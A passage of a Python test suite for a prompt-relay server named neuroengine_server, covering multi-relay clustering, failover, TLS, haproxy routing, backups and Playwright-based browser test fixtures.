    for port in (8000, 8001, 8002):
        neuroengine_server.pin_to_one_core(port)
    assert sorted(cores) == [2, 5, 7]


def test_cluster_the_directory_shows_all_services_from_every_relay(cluster):
    relays = cluster(3)
    hand, name = FarHand(relays[0], relays[1]), name_of()
    ask(relays[1], "/api/services", {"name": name, "comment": "of relay 1"})

    def shown(relay):
        return {entry["name"]: (entry["connected"], entry["comment"])
                for entry in ask(relay, "/api/models")[1]}
    for relay in relays:
        until(lambda relay=relay: shown(relay) == {
            hand.name: (True, ""), name: (False, "of relay 1")})
        until(lambda relay=relay: [
            model["id"] for model in ask(relay, "/v1/models")[1]["data"]] == [hand.name])
        assert ask(relay, "/v1/models/" + hand.name)[0] == 200
    relays[0].stop()
    until(lambda: shown(relays[2])[hand.name][0] is False)


def test_cluster_the_directory_forgets_services_that_are_deleted(cluster):
    relay, name = cluster(), name_of()
    key = ask(relay, "/api/services", {"name": name})[1]["key"]
    relay.directory.entries()
    assert list(relay.directory._absent) == [name.lower()]
    ask(relay, "/api/services/" + name, method="DELETE", Authorization="Bearer " + key)
    relay.directory.entries()
    assert not relay.directory._absent


def test_cluster_metrics_tell_of_homes_and_engine(cluster):
    relays = cluster(2)
    hand = FarHand(*relays)
    text = ask(relays[1], "/metrics")[1].decode()
    for line in ("engine_up 1", "homes 0", "relays 2", "claims_total 0",
                 "lost_homes_total 0", "fenced_writes_total 0"):
        assert "neuroengine_%s\n" % line in text
    assert re.search(r"neuroengine_forwarded_total [1-9]", text)
    assert "neuroengine_engine_seconds_count" in text
    assert "neuroengine_homes 1\n" in ask(relays[0], "/metrics")[1].decode()
    hand.logout()


def start_cluster_relay(start, engine, port=0):
    port = port or free_port()
    program = start("neuroengine_server.py", "--host", "127.0.0.1", "--port", port,
                    "--engine", engine.url, "--advertise", "http://127.0.0.1:%d" % port,
                    NEUROENGINE_CLUSTER_SECRET=CLUSTER_SECRET)
    program.says(r"listens at (http\S+)", 60)
    address = Address(program)
    until(lambda: ask(address, "/healthz")[0] == 200, 60)
    return program, address


@pytest.mark.parametrize("how", ["SIGKILL", "SIGSTOP", "SIGTERM"])
def test_cluster_another_relay_takes_over(start, engine, how):
    program, home = start_cluster_relay(start, engine)
    _, other = start_cluster_relay(start, engine)
    name = name_of()
    key = ask(home, "/api/services", {"name": name})[1]["key"]
    assert ask(home, "/api/services/" + name, Authorization="Bearer " + key)[0] == 200
    provider = start("-c", PROVIDER, other.url, name, key)
    provider.says("login 0")
    assert Neuroengine(name, other.url).request("3") == numbers(3)
    program.process.send_signal(getattr(signal, how))
    until(lambda: Neuroengine(name, other.url).request("3", tries=1) == numbers(3), 60)
    with contextlib.suppress(OSError):
        program.process.send_signal(signal.SIGCONT)
    if how == "SIGSTOP":
        assert Neuroengine(name, home.url).request("3") == numbers(3)
        program.says("home_lost")


def test_cluster_commands_work_on_the_engine(cluster, engine, tmp_path, capsys):
    relay = cluster()
    hand = FarHand(relay, relay)
    old = str(tmp_path / "old.sqlite3")
    with contextlib.closing(Store(old)) as store:
        store.add(Service("Old", digest("k"), numreq=7))
        store.add(Service(hand.name, digest("another")))
        store.invite(digest("invitation"), 2)

    def command(*words):
        status = neuroengine_server.main([*words, "--engine", engine.url])
        return status, capsys.readouterr().out
    status, said = command("import", old)
    assert status == 0 and "Imported 1 services" in said and hand.name in said
    assert "7 prompts" in command("list")[1] and hand.name in command("list")[1]
    assert ask(relay, "/api/services/Old", Authorization="Bearer k")[0] == 200
    key = command("reset-key", hand.name)[1].split()[-1]
    until(lambda: ask(relay, "/api/services/" + hand.name,
                      Authorization="Bearer " + key)[0] == 200)
    new = str(tmp_path / "new.sqlite3")
    assert command("backup", new)[0] == 0
    assert "secret" not in command("backup", new + "2", "--engine", engine.url.replace(
        "unix://", "unix://:secret@"))[1]
    with contextlib.closing(Store(new)) as store:
        assert {(s.name, s.key_digest) for s in store.load()} == {
            ("Old", digest("k")), (hand.name, digest(key))}
        assert store.rows("invitations") == [(digest("invitation"), 2)]
    assert command("delete", "Old", "--yes")[0] == 0
    until(lambda: ask(relay, "/api/services/Old", Authorization="Bearer k")[0] == 404)


def test_cluster_half_a_backup_does_not_stay(engine_store, tmp_path, monkeypatch):
    def silent(pairs):
        raise neuroengine_server.EngineError("gone")
    monkeypatch.setattr(Store, "reserve", lambda store, pairs: silent(pairs))
    with pytest.raises(neuroengine_server.EngineError):
        engine_store.backup(str(tmp_path / "copy"))
    assert not list(tmp_path.iterdir())


def test_cluster_invitations_are_used_up_at_all_relays_together(cluster, engine, capsys):
    relays = cluster(2)
    for relay in relays:
        relay.registry.registration = "invited"
    neuroengine_server.main(["invite", "3", "--engine", engine.url])
    code = capsys.readouterr().out.split()[-1]
    answers = [in_thread(ask, relay, "/api/services", {"name": name_of(), "invitation": code})
               for relay in relays * 3]
    assert sorted(answer()[0] for answer in answers) == [201] * 3 + [403] * 3


def test_cluster_doctor_checks_engine_secret_and_peers(cluster, engine, monkeypatch, capsys,
                                                       tmp_path):
    relay = cluster()
    secret = tmp_path / "secret"
    secret.write_text("quite-another-secret\n")
    secret.chmod(0o644)

    def doctor(*more):
        neuroengine_server.main(["doctor", "--port", "0", "--engine", engine.url,
                                 "--advertise", "http://127.0.0.1:1", *more])
        return capsys.readouterr().out
    said = doctor("--cluster-secret-file", str(secret))
    assert "chmod 600" in said and relay.url + " (it has another secret)" in said
    assert re.search(r"ok +The engine unix.* evicts nothing, and persists", said)
    monkeypatch.setenv("NEUROENGINE_CLUSTER_SECRET", CLUSTER_SECRET)
    assert "Relays that answer, with the same secret: 1." in doctor()
    engine.call("CONFIG", "SET", "maxmemory-policy", "allkeys-lru")
    assert re.search(r"error +The engine.*noeviction", doctor())
    engine.call("CONFIG", "SET", "maxmemory-policy", "noeviction")
    engine.call("CONFIG", "SET", "appendonly", "no")
    assert re.search(r"warning +The engine.*appendonly", doctor())
    call = neuroengine_server.Engine.call
    for word, answer, said in (("TIME", ["1", "0"], "Its clock differs"),
                               ("INFO", "redis_version:4.0.9", "version 5 or newer")):
        with monkeypatch.context() as patch:
            patch.setattr(neuroengine_server.Engine, "call", (
                lambda self, *words, word=word, answer=answer:
                answer if words == (word,) else call(self, *words)))
            assert re.search("error +The engine.*" + said, doctor())
    engine.kill()
    assert len(re.findall(r"error +The engine .*does not answer", doctor())) == 1
    engine.start()


@pytest.mark.parametrize("url, words", [
    ("unix://%s/s", "refuses: NOAUTH"),
    ("unix://nobody:wrong@%s/s", "refuses: WRONGPASS")])
def test_cluster_an_engine_that_refuses_says_why(engine, url, words):
    engine.call("CONFIG", "SET", "requirepass", "right")
    with pytest.raises(neuroengine_server.EngineError, match=words):
        neuroengine_server.Engine(url % engine.folder).call("PING")
    assert neuroengine_server.Engine("unix://:right@" + engine.folder + "/s").call(
        "PING") == "PONG"


def test_cluster_an_engines_long_refusal_is_told_in_its_first_sentence():
    listener, _ = resp_server(b"-DENIED Running in protected mode. There are 4 ways out.\r\n")
    engine = neuroengine_server.Engine("redis://127.0.0.1:%d" % listener.getsockname()[1])
    with pytest.raises(neuroengine_server.EngineError, match="protected mode$"):
        engine.call("PING")
    listener.close()


@pytest.mark.parametrize("password", ["p@ss/word", "a/b", "a?b", "a#b"])
def test_cluster_a_password_that_breaks_the_engines_url_is_not_printed(password):
    with pytest.raises(neuroengine_server.StoreError, match="%2F") as error:
        neuroengine_server.Engine("redis://:%s@127.0.0.1" % password)
    assert password not in str(error.value)


@pytest.mark.parametrize("engine, verdict", [(None, "ok"), ("redis://host", "warning")])
def test_cluster_what_is_forwarded_needs_a_second_open_file(engine, verdict, monkeypatch):
    resource = pytest.importorskip("resource")
    monkeypatch.setattr(resource, "getrlimit", lambda _: (1500, 1500))
    options = argparse.Namespace(max_connections=1000, engine=engine)
    assert neuroengine_server.check_descriptors(options)[0] == verdict


@pytest.mark.parametrize("options, words", [
    (["--advertise", "http://10.0.0.1:8000"], "share an --engine"),
    (["--engine", "", "--cluster-secret-file", "s"], "share an --engine"),
    (["--engine", "redis://h", "--demo"], "--demo is one relay"),
    (["--engine", "redis://h", "--data", "d.sqlite3"], "import")])
def test_cluster_options_of_one_relay_and_of_several_exclude_each_other(options, words, capsys):
    with pytest.raises(SystemExit):
        neuroengine_server.main(options)
    assert words in capsys.readouterr().err


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_cluster_works_over_tls_between_relays_and_to_the_engine(cluster, engine, tmp_path,
                                                                 monkeypatch):
    cert, key = neuroengine_server.self_signed(str(tmp_path))
    monkeypatch.setenv("SSL_CERT_FILE", cert)
    ports = free_port(), free_port()
    for name, value in (("cert-file", cert), ("key-file", key), ("ca-cert-file", cert),
                        ("auth-clients", "no"), ("port", ports[0])):
        engine.call("CONFIG", "SET", "tls-" + name, value)
    front, secure = cluster(), neuroengine_server.ClusterRelay(
        "127.0.0.1", ports[1], tls=neuroengine_server.Certificate(cert, key),
        engine=neuroengine_server.Engine("rediss://localhost:%d" % ports[0]),
        secret=CLUSTER_SECRET, advertise="https://localhost:%d" % ports[1])
    secure.start()
    try:
        hand = Hand(front)
        front.registry._leave(front.broker.services())
        secure.broker.find(hand.name)      # is the home now
        hand.session = hand.call("login")["session"]
        for body in ({"message": "hi"}, {"message": "hi", "stream": True}):
            answer = in_thread(ask, front, "/" + hand.name, body)
            hand.reply(hand.next_job(), ["yes"], done=True)
            assert answer()[0] == 200
        assert secure.broker.counts["jobs"] == 2 and not front.broker.services()
    finally:
        secure.stop()


def logged(monkeypatch):
    """The events that are logged from now on."""
    events = []
    monkeypatch.setattr(neuroengine_server, "log", lambda event, **fields: events.append(
        dict(fields, event=event)))
    return events


def test_cluster_a_relay_with_another_secret_is_told_and_its_clients_may_retry(
        cluster, engine, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "TAKEOVER_SECONDS", 0.3)
    events, home = logged(monkeypatch), cluster()
    hand = FarHand(home, home)
    other = neuroengine_server.ClusterRelay(
        "127.0.0.1", 0, engine=neuroengine_server.Engine(engine.url), secret="x" * 20)
    other.start()
    try:
        answer = ask(other, "/" + hand.name, {"message": "hi"})
        assert (answer[0], answer[1]["error"]) == (503, "shutting_down")
        until(lambda: {(event["url"], event["error"]) for event in events if event["event"]
                       == "relay_unreachable"} == {(home.url, "it has another secret"),
                                                   (other.url, "it has another secret")})
    finally:
        other.stop()


def test_cluster_a_peer_that_restarts_is_known_by_its_new_address(cluster, monkeypatch):
    relay, found = cluster(), []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_: [(0, 0, 0, "", (found[-1], 0))])
    with relay.registry.changing:          # so no beat comes between
        for number in "12":
            found.append("192.0.2." + number)
            relay.registry.relays = frozenset((relay.registry.id, number + "@http://peer"))
            until(lambda: relay.is_proxy(found[-1]))
        until(lambda: not relay.is_proxy(found[0]))


def test_cluster_two_relays_that_advertise_one_address_are_told(cluster, engine, monkeypatch):
    events, first = logged(monkeypatch), cluster()
    second = neuroengine_server.ClusterRelay(
        "127.0.0.1", 0, engine=neuroengine_server.Engine(engine.url), secret=CLUSTER_SECRET,
        advertise=first.url)
    second.start()
    try:
        until(lambda: [event["meaning"] for event in events if event["event"]
                       == "relay_unreachable" and "another relay" in event["error"]
                       and "--advertise" in event["meaning"]])
    finally:
        second.stop()


def test_cluster_a_home_behind_a_firewall_that_refuses_is_left_alone_while_it_beats(
        cluster, engine, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "TAKEOVER_SECONDS", 0.5)
    other, home = cluster(), neuroengine_server.ClusterRelay(
        "127.0.0.1", 0, engine=neuroengine_server.Engine(engine.url), secret=CLUSTER_SECRET,
        advertise="http://127.0.0.1:%d" % free_port())
    home.start()
    try:
        hand = Hand(home)
        until(lambda: hand.name.lower() in other.registry.homes)
        assert ask(other, "/" + hand.name, {"message": "hi"})[1]["error"] == "shutting_down"
        assert other.registry.counts["claims"] == 0
        answer = in_thread(ask, home, "/" + hand.name, {"message": "hi"})
        hand.reply(hand.next_job(), ["yes"], done=True)
        assert answer()[0] == 200
    finally:
        home.stop()


@pytest.fixture
def haproxy():
    need_program("haproxy")


def test_cluster_haproxy_takes_its_configuration(haproxy, tmp_path):
    text = document("deploy/haproxy-cluster.cfg")
    config = tmp_path / "haproxy.cfg"
    config.write_text(re.sub(r"bind :443 .*", "bind 127.0.0.1:%d" % free_port(), text))
    checked = subprocess.run(["haproxy", "-c", "-f", str(config)], stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT)
    assert checked.returncode == 0, checked.stdout


def test_cluster_haproxy_sends_a_service_to_one_relay_and_v1_to_all(haproxy, cluster, tmp_path):
    relays, port, config = cluster(3), free_port(), tmp_path / "haproxy.cfg"
    text = re.sub(r"bind :443 .*", "bind 127.0.0.1:%d" % port,
                  document("deploy/haproxy-cluster.cfg").replace("maxconn 8000", "maxconn 100"))
    for number, relay in enumerate(relays, 1):
        text = text.replace("10.0.0.%d:8000" % number, "127.0.0.1:%d" % relay.server_port)
    config.write_text(text)
    balancer = subprocess.Popen(["haproxy", "-db", "-f", str(config)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        url = types.SimpleNamespace(server_address=("127.0.0.1", port))

        def counted(api):
            return [relay.tally.counted()["requests", api] for relay in relays]

        def health():
            with contextlib.suppress(OSError):
                return ask(url, "/healthz")[0] == 200
        until(health)
        for path in ("/None", "/provider/none/poll", "/api/services/NONE"):
            before = counted("native"), counted("provider"), counted("operator")
            for _ in range(8):
                ask(url, path, {"message": "hi"})
            now = counted("native"), counted("provider"), counted("operator")
            assert [new > old for news, olds in zip(now, before)
                    for new, old in zip(news, olds)].count(True) == 1, path
        until(lambda: ask(url, "/v1/models")[0] == 200 and all(counted("openai")))
    finally:
        balancer.kill()
        balancer.wait()


def test_cluster_answers_are_right_behind_haproxy_while_homes_die(haproxy, engine, capsys):
    assert bench_module("checks", "cluster.py").short_run(ENGINE_PROGRAM) == []


def test_cluster_old_clients_that_do_not_count_get_no_text_twice(cluster):
    relays = cluster(3)
    hand = FarHand(relays[0], relays[1])
    key, command, texts = uuid.uuid4().hex, {"message": "hi", "gettokens": 3}, []
    turns = itertools.cycle(relays)
    answer = in_thread(ask, next(turns), "/" + hand.name, dict(command, key=key))
    hand.reply(hand.next_job(), ["%d " % n for n in range(20)], done=True)
    while not texts or texts[-1]:
        texts.append(answer()[1]["reply"])
        answer = in_thread(ask, next(turns), "/" + hand.name, dict(command, key=key))
    answer()
    assert "".join(texts) == numbers(20)


def test_cluster_a_renamed_service_and_a_changed_key_are_so_at_every_relay(cluster):
    relays = cluster(2)
    hand, name = FarHand(*relays), name_of("New")
    bearer = {"Authorization": "Bearer " + hand.key}
    key = ask(relays[1], "/api/services/%s/keys" % hand.name, {"label": "a"}, **bearer)[1]
    assert ask(relays[1], "/api/services/%s/keys/%s" % (hand.name, key["id"]),
               {"label": "b"}, "PATCH", **bearer)[0] == 200
    assert ask(relays[1], "/api/services/" + hand.name, {"name": name}, "PATCH",
               **bearer)[0] == 200
    for relay in relays:
        assert ask(relay, "/api/services/" + name, **bearer)[0] == 200
        assert ask(relay, "/api/services/" + hand.name, **bearer)[0] == 404
    shown = ask(relays[1], "/api/services/%s/keys" % name, **bearer)[1]["keys"]
    assert [(k["id"], k["label"]) for k in shown] == [(key["id"], "b")]
    record = json.loads(relays[1].registry.records[name.lower()])
    assert [k["label"] for k in record["keys"]] == ["b"]


def test_cluster_a_forwarded_prompt_costs_at_most_two_and_a_half_times_the_time(cluster):
    relays = cluster(2)
    hand = FarHand(relays[0], relays[0])
    stop = threading.Event()

    def provide():
        while not stop.is_set():
            for job in hand.poll()["jobs"]:
                hand.reply(job, ["yes"], done=True)
    thread = threading.Thread(target=provide, daemon=True)
    thread.start()

    def cost(relay, count=150):
        connection = http.client.HTTPConnection(*relay.server_address[:2], timeout=30)
        began = time.process_time()
        for n in range(count):
            connection.request("POST", "/" + hand.name, json.dumps({"message": str(n)}))
            assert connection.getresponse().read()
        connection.close()
        return time.process_time() - began
    cost(relays[0], 20), cost(relays[1], 20)
    # This process is client and provider, too, so the relays' share is smaller than it seems.
    assert min(cost(relays[1]) / cost(relays[0]) for _ in range(3)) < 2.5
    stop.set()
    last = sent(relays[0], "/" + hand.name, {"message": "wakes the provider, if it polls"})
    thread.join(SOON)
    last.close()


def resp_server(*answers):
    """A server that gives these answers, one for each command; its port and its commands."""
    listener, commands = socket.create_server(("127.0.0.1", 0)), []

    def serve():
        with contextlib.suppress(OSError):
            while True:
                sock = listener.accept()[0]
                threading.Thread(target=talk, args=(sock,), daemon=True).start()

    def talk(sock):
        with contextlib.suppress(OSError):
            for data in iter(lambda: sock.recv(65536), b""):
                commands.append(data)
                answer = answers[min(len(commands), len(answers)) - 1]
                if answer is not None:
                    sock.sendall(answer)
    threading.Thread(target=serve, daemon=True).start()
    return listener, commands


def test_cluster_a_frozen_engine_costs_a_second_and_then_nothing(monkeypatch):
    monkeypatch.setattr(neuroengine_server, "ENGINE_SECONDS", 0.2)
    listener, commands = resp_server(None)
    engine = neuroengine_server.Engine("redis://127.0.0.1:%d" % listener.getsockname()[1])
    began = time.monotonic()
    for _ in range(20):
        with pytest.raises(neuroengine_server.EngineError):
            engine.call("PING")
    assert len(commands) == 1 and time.monotonic() - began < SOON / 2
    listener.close()


@pytest.mark.parametrize("refusal", [
    b"READONLY no", b"ERR Error running script (call to f_1): @user_script:1: -READONLY no"])
def test_cluster_an_engine_that_became_a_replica_is_left_for_the_other(refusal):
    replica, _ = resp_server(b"*3\r\n$6\r\nmaster\r\n:0\r\n*0\r\n", b"-%s\r\n" % refusal,
                             b"*1\r\n$5\r\nslave\r\n")
    leader, commands = resp_server(b"*1\r\n$6\r\nmaster\r\n", b"+OK\r\n")
    engine = neuroengine_server.Engine("redis://127.0.0.1:%d,127.0.0.1:%d" % (
        replica.getsockname()[1], leader.getsockname()[1]))
    with pytest.raises(neuroengine_server.EngineError):
        engine.call("SET", "a", "b")
    engine._silent_until = 0
    assert engine.call("SET", "a", "b") == "OK" and len(commands) == 2
    replica.close(), leader.close()


@pytest.mark.parametrize("step", [1, 2, 3, 7, 1000])
def test_cluster_the_end_of_a_chunked_body_is_found_in_any_pieces(step):
    data = b"5\r\nhello\r\nA;x=1\r\n0\r\n\r\n12345\r\n0\r\n\r\n"
    body = neuroengine_server.ChunkedBody()
    pieces = [data[n:n + step] for n in range(0, len(data), step)]
    assert [body.ends_with(piece) for piece in pieces] == [False] * (len(pieces) - 1) + [True]


##############################################################################
# The page: three browsers, a relay, a provider, and a line that can be cut
##############################################################################

PAGE_WAIT = int(1000 * patient(30))      # milliseconds that only a failure reaches
PAGE_CHROMIUM_OPTIONS = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run "
    "--disable-background-networking --disable-component-update --disable-sync").split()


def bench_module(*path):
    """A program of bench/, as a module."""
    spec = importlib.util.spec_from_file_location(path[-1], os.path.join(HERE, "bench", *path))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


class PageSkip(pytest.skip.Exception):
    """A skip of the place where it is raised, not of each test: pytest's summary then
    has one line for all."""
    __module__, __qualname__ = "builtins", "Skipped"     # the name is left out there
    _use_item_location = property(lambda self: False, lambda self, value: None)


@pytest.fixture(scope="session")
def page_wanted():
    if os.environ.get("NEUROENGINE_BROWSER_TESTS") != "1":
        raise PageSkip("the page's tests need three browsers (see .ci/run) and "
                       "NEUROENGINE_BROWSER_TESTS=1")


@pytest.fixture(scope="session")
def page_browsers():
    """Starts a browser when the first test needs it, and ends all at the end."""
    drivers = bench_module("browsers.py")
    with contextlib.ExitStack() as ends:
        @functools.lru_cache(maxsize=None)
        def start(name):
            if name == "chromium":
                return ends.enter_context(page_chromium())
            return ends.enter_context(contextlib.closing(getattr(drivers, name)()))
        start.page = drivers.Page
        yield start


@contextlib.contextmanager
def page_chromium():
    from playwright.sync_api import sync_playwright
    chromium = os.environ.get("NEUROENGINE_CHROMIUM") or shutil.which("chromium") \
        or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert chromium, "apt install chromium, or name it in NEUROENGINE_CHROMIUM"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, timeout=6 * PAGE_WAIT,
                                             args=PAGE_CHROMIUM_OPTIONS)
        yield browser
        browser.close()


# The tests that have this run in Firefox and WebKitGTK, too. They keep to what
# bench/browsers.py has of Playwright's methods; pages made without options are enough.
in_each_browser = pytest.mark.parametrize(
    "page_browser", ["chromium", "Firefox", "WebKit"], indirect=True)
# WebKit's driver does not answer when it is to press a button twice in one action.
in_browsers_that_double_click = pytest.mark.parametrize(
    "page_browser", ["chromium", "Firefox"], indirect=True)


@pytest.fixture
def page_browser(request, page_wanted, page_browsers):
    return page_browsers(getattr(request, "param", "chromium"))


@pytest.fixture(scope="session")
def page_axe():
    path = os.environ.get("NEUROENGINE_AXE", "/tmp/axe/node_modules/axe-core/axe.min.js")
    assert os.path.exists(path), "npm install --prefix /tmp/axe axe-core, or name its " \
        "axe.min.js in NEUROENGINE_AXE"
    with open(path, encoding="utf-8") as file:
        return file.read()


class PageJob:
    """A prompt in the hands of the test."""

    def __init__(self, provider, job):
        self.provider, self.at, self.cancelled = provider, 0, threading.Event()
        self.request, self.pair = job["request"], (job["job"], job["attempt"])

    def push(self, *items, **more):
        job, attempt = self.pair
        self.provider.reply(dict(more, job=job, attempt=attempt, at=self.at,
                                 items=list(items)))
        self.at += len(items)

    def done(self, *items):
        self.push(*items, done=True)

    def fail(self, words):
        self.push(error={"error": "provider_error", "message": words})


class PageProvider:
    """A provider whose answers the test gives, one item after the other."""

    def __init__(self, relay, name="Demo", **features):
        self.path, self.key = "/provider/%s/" % name, relay.keys[name]
        self.arrived, self.running, self.gone = queue.Queue(), {}, False
        self.replies, self.polls = (http.client.HTTPConnection(
            "127.0.0.1", relay.server_port, timeout=60) for _ in range(2))
        self.session = self._call(self.replies, "login", features)["session"]
        threading.Thread(target=self._poll, daemon=True).start()

    def _call(self, connection, action, body):
        try:
            return self._call_once(connection, action, body)
        except (ConnectionError, http.client.HTTPException):
            connection.close()           # the relay did so first, while nothing was said;
            return self._call_once(connection, action, body)       # a repeat does no harm

    def _call_once(self, connection, action, body):
        connection.request("POST", self.path + action, json.dumps(body),
                           {"Authorization": "Bearer " + self.key})
        return json.loads(connection.getresponse().read())

    def _poll(self):
        with contextlib.suppress(OSError, http.client.HTTPException):
            while not self.gone:
                self._take(self._call(self.polls, "poll", {
                    "session": self.session, "running": list(self.running)}))

    def _take(self, answer):
        for pair in map(tuple, answer.get("cancel", ())):
            if pair in self.running:
                self.running.pop(pair).cancelled.set()
        for job in answer.get("jobs", ()):
            mine = PageJob(self, job)
            if self.running.setdefault(mine.pair, mine) is mine:
                self.arrived.put(mine)

    def reply(self, entry):
        if entry.get("done") or entry.get("error"):
            self.running.pop((entry["job"], entry["attempt"]), None)
        self._take(self._call(self.replies, "reply", {
            "session": self.session, "replies": [entry]}))

    def next(self):
        """The next prompt. Playwright's events stand still meanwhile: keep it short."""
        return self.arrived.get(timeout=PAGE_WAIT / 1000)

    def leave(self):
        self.gone = True
        with contextlib.suppress(OSError, http.client.HTTPException):
            self._call(self.replies, "logout", {"session": self.session})


class PageProxy:
    """A TCP line to the relay that can be cut, and kept cut, and that can be silent."""

    def __init__(self, port):
        self.to, self.open, self.pairs, self.flows = port, True, [], threading.Event()
        self.flows.set()                                 # cleared: nothing arrives for a while
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.url = "http://127.0.0.1:%d" % self.port
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                near = self.socket.accept()[0]
            except OSError:
                return
            if not self.open:
                near.close()
                continue
            far = socket.create_connection(("127.0.0.1", self.to))
            self.pairs.append((near, far))
            for pair in ((near, far), (far, near)):
                threading.Thread(target=self._carry, args=pair, daemon=True).start()

    def _carry(self, source, target):
        with contextlib.suppress(OSError):
            while True:
                data = source.recv(65536)
                self.flows.wait()
                if not data:
                    break
                target.sendall(data)
        for end in (source, target):
            with contextlib.suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)

    def cut(self, keep=False):
        self.open = not keep
        pairs, self.pairs = self.pairs, []
        for pair in pairs:
            for end in pair:
                with contextlib.suppress(OSError):
                    end.shutdown(socket.SHUT_RDWR)
                    end.close()

    def mend(self):
        self.open = True

    def close(self):
        self.socket.close()
        self.cut(keep=True)
        self.flows.set()


# Put before the page's own script. It keeps in the tab, whatever is loaded there, what
# no page may do: only Playwright hears of what the browser itself complains about.
PAGE_WATCH = b"""<script>
window.complain = (text) => sessionStorage.setItem("complaints", JSON.stringify(
    [...JSON.parse(sessionStorage.getItem("complaints") || "[]"), text]));
window.violations = [];
// An observer that moves what it observes hears of it one frame later: no fault.
addEventListener("error", (e) =>
    e.message.startsWith("ResizeObserver loop") || complain("error: " + e.message));
addEventListener("unhandledrejection", (e) => complain("rejection: " + e.reason));
document.addEventListener("securitypolicyviolation", (e) => {
    violations.push(e.violatedDirective);
    complain("CSP: " + e.violatedDirective + " " + e.blockedURI);
});
for (const level of ["error", "warn"]) console[level] = (...words) => complain(words.join(" "));
</script>"""


class PageRelay:
    """A relay that serves the page, and what operators do with it."""

    def __init__(self, *names, page=None):
        page = (page or read_page()).replace(b"<script>", PAGE_WATCH + b"<script>", 1)
        self.relay = Relay("127.0.0.1", 0, page=page, limits=Limits(close_seconds=0.2))
        self.relay.start()
        self.url, self.keys = self.relay.url, {}
        self.server_address, self.server_port = self.relay.server_address, self.relay.server_port
        for name in names:
            self.add(name)

    def add(self, name, operator="Ada", comment="A small model on an old machine"):
        self.keys[name] = self.ask("POST", "", "", name=name, operator=operator,
                                   comment=comment)[1]["key"]

    def change(self, name, **fields):
        assert self.ask("PATCH", "/" + name, self.keys[name], **fields)[0] == 200

    def service(self, name, key=None):
        """What the relay says to an operator, or None if the key is not right."""
        status, answer = self.ask("GET", "/" + name, key or self.keys[name])
        return answer if status == 200 else None

    def ask(self, method, path, key, **fields):
        return ask(self, "/api/services" + path, fields or None, method,
                   Authorization="Bearer " + key)[:2]

    def stop(self):
        self.relay.stop()


@pytest.fixture
def page_relay(page_wanted):
    relay = PageRelay("Demo")
    yield relay
    relay.stop()


@pytest.fixture
def page_provider(page_relay):
    provider = PageProvider(page_relay)
    yield provider
    provider.leave()


class PageTab:
    """A tab of the browser, and what people do in it."""

    def __init__(self, tab, url):
        self.tab, self.url = tab, url
        self.complaints, self.requests, self.expects_trouble = [], [], False
        self.tab.set_default_timeout(PAGE_WAIT)
        if hasattr(tab, "on"):                           # Playwright's
            self.tab.on("console", self._heard)
            self.tab.on("request", lambda request: self.requests.append(request))

    def complained(self):
        """All complaints of the page and the browser, if the tab is still there."""
        with contextlib.suppress(Exception):
            self.complaints += self.tab.evaluate(
                "JSON.parse(sessionStorage.getItem('complaints') || '[]')")
        return self.complaints

    def _heard(self, message):
        if message.type not in ("error", "warning"):
            return
        # The browser itself notes each answer that is not a success.
        if self.expects_trouble and message.text.startswith("Failed to load resource"):
            return
        self.complaints.append(message.text)

    def open(self, path="/Demo"):
        self.tab.goto(self.url + path)
        self.eventually("document.querySelector('#directory').hidden "
                        "!== document.querySelector('#chat').hidden")
        if path.split("#")[0] != "/":
            self.tab.wait_for_selector("#service-state:not(:empty)")
        return self

    def say(self, text):
        self.tab.fill("#input", text)
        self.tab.press("#input", "Enter")

    def shows(self, text, where=".message.last"):
        self.eventually(
            "([where, text]) => [...document.querySelectorAll(where)].some("
            "(el) => !el.closest('[hidden]') && el.innerText.includes(text))",
            [where, text])

    def eventually(self, script, arg=None):
        """Wait until that is so. wait_for_function would need 'unsafe-eval'."""
        deadline = time.monotonic() + PAGE_WAIT / 1000
        while True:
            value = None
            with contextlib.suppress(Exception):         # the page is being changed
                value = self.tab.evaluate(script, arg)
            if value:
                return
            assert time.monotonic() < deadline, (script, arg)
            self.tab.wait_for_timeout(20)

    def edit(self, text):
        """Open the editor of the prompt, and write another there."""
        self.tab.hover(".message.user")
        self.tab.click(".message.user [aria-label='Edit and send again']")
        self.tab.fill(".editing textarea", text)

    def at_rest(self, script):
        """The value of `script` once it has stayed the same for half a second and 30 frames:
        what moves smoothly has arrived then, however slow the machine is."""
        return self.tab.evaluate("""() => new Promise((resolve) => {
            let last = NaN, frames = 0, since = 0;
            const look = () => {
                const now = %s;
                if (now !== last) { last = now; frames = 0; since = performance.now(); }
                if (++frames > 30 && performance.now() - since > 500) resolve(now);
                else requestAnimationFrame(look);
            };
            look(); })""" % script)

    def prompt(self, provider):
        """As provider.next(), while what the tab asks of this thread goes on."""
        deadline = time.monotonic() + PAGE_WAIT / 1000
        while provider.arrived.empty() and time.monotonic() < deadline:
            self.tab.wait_for_timeout(10)
        return provider.next()

    def news(self):
        """Have the page ask for the state of the services now, not in some seconds."""
        self.tab.evaluate("window.dispatchEvent(new Event('online'))")

    def idle(self):
        self.tab.wait_for_selector("#send:visible")

    def answers(self, text):
        """Wait until that, and nothing else, is the last answer."""
        self.eventually("(text) => document.querySelector('.message.last .md')"
                        ".innerText.trim() === text", text)

    def live(self):
        return self.tab.text_content("#live")

    def wide(self):
        """Elements that stick out sideways, or the page scrolling sideways."""
        return self.tab.evaluate("""() => {
            const width = document.documentElement.clientWidth, out = [];
            if (document.scrollingElement.scrollWidth > width) out.push("page");
            for (const el of document.querySelectorAll("body *")) {
              const box = el.getBoundingClientRect();
              if (!box.width || el.closest(
                "pre, .table, .wide, .unseen, .skip, svg, .side:not(.open)")) continue;
              if (!el.checkVisibility({visibilityProperty: true})) continue;
              if (box.right > width + 1 || box.left < -1)
                out.push(el.tagName + "#" + el.id + "." + el.className);
            }
            return out; }""")


@pytest.fixture
